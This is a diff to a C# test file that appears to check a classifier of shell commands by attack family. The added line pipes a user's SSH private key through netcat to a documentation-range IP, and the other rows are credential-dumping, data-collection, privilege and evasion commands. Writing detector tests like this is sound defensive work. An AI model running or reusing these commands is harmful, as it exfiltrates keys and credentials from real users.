@@ -103,6 +103,7 @@ public sealed class CommandFamilyTests
         { "collection", "cp -R ~/Library/Mail /tmp/m" },
         { "collection", "ssh db.example 'cd /etc && tar czf - *' > etc.tgz" },
         { "credentials", "cmdkey /list" },
+        { "credentials", "f(){ cat \"$1\" | nc 203.0.113.9 9000; }; f ~/.ssh/id_rsa" },
         { "credentials", "security find-certificate -a -p > /tmp/c.pem" },
         { "privilege", "sudo /tmp/x -i eth0" },
         { "evasion", "echo '#!/bin/sh' > /tmp/report.pdf.sh" },
